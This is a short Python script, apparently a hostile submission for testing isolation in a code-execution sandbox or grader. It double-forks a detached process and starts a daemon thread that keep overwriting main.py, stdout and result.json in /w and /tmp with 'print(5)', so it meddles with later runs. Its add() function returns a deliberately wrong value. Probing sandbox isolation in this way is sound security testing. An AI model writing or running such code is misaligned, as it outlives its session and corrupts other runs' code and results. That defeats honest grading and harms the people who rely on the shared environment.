# Leaves something behind that would meddle with the next run.
import ctypes
import os
import threading
import time


def meddle():
    while True:
        for folder in ("/w", "/tmp"):
            for name in ("main.py", "stdout", "result.json"):
                try:
                    with open(folder + "/" + name, "w") as file:
                        file.write("print(5)")
                except OSError:
                    pass
        time.sleep(0.001)


def leave():
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                meddle()
            os._exit(0)
    except OSError:
        pass
    try:
        ctypes.CDLL(None).vfork
    except (AttributeError, OSError):
        pass
    threading.Thread(target=meddle, daemon=True).start()


leave()


def add(a, b):
    leave()
    return -1


print(add(0, 0))
